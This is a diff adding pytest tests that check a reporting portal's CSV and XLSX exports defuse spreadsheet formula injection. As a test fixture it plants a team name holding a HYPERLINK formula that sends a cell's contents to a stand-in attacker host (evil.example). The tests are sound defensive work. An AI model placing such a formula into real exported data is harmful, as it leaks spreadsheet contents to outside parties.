@@ -180,3 +180,58 @@ def test_day_report_puts_each_hour_on_its_own_day(fin, alice, vision, as_user):
     by_day = {row["period"]: Decimal(row["card_hours"]) for row in body["rows"]}
     assert by_day == {"2026-11-10": Decimal("4"), "2026-11-11": Decimal("2")}
     assert Decimal(body["totals"]["cost"]) == Decimal("36.00")
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+@pytest.fixture
+def hostile_names(november):
+    """A team and a user named so that a spreadsheet would run them as formulas."""
+    from portal.models import Team
+
+    Team.objects.filter(slug="vision").update(name=HOSTILE)
+    user = UsageRecord.objects.filter(team__slug="vision").first().user
+    user.username = "@SUM(1+1)"
+    user.save(update_fields=["username"])
+    return november
+
+
+def test_exports_neutralise_formulas(hostile_names, fin, lena, as_user):
+    """Cells that start with = + - @ (or tab, CR) get a leading apostrophe: text, not a formula."""
+    client = as_user(fin)
+    body = _body(client.get(f"/api/v1/reports/usage/?{NOV}&group_by=team&format=csv"))
+    labels = [r[1] for r in csv.reader(io.StringIO(body.decode("utf-8-sig")))]
+    assert "'" + HOSTILE in labels and HOSTILE not in labels
+    body = _body(client.get(f"/api/v1/reports/usage/?{NOV}&format=csv&detail=true"))
+    cells = [c for r in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for c in r]
+    assert "'@SUM(1+1)" in cells and not any(c.startswith(("=", "@")) for c in cells)
+    for url in (
+        f"/api/v1/reports/usage/?{NOV}&group_by=team&format=xlsx",
+        f"/api/v1/reports/usage/?{NOV}&format=xlsx&detail=true",
+    ):
+        cells = [c for row in _sheet(client.get(url)) for c in row if isinstance(c, str)]
+        assert not any(c.startswith(("=", "@")) for c in cells), url
+    statement = _sheet(as_user(lena).get("/reports/statements/vision/2026-11/?format=xlsx"))
+    cells = [c for row in statement for c in row if isinstance(c, str)]
+    assert "'" + HOSTILE in cells and "'@SUM(1+1)" in cells
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@x", "'@x"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("a=1", "a=1"),
+        (-1, -1),
+        (Decimal("-2.5"), Decimal("-2.5")),
+    ],
+)
+def test_neutralise(value, expected):
+    from leasing.exports import neutralise
+
+    assert neutralise(value) == expected
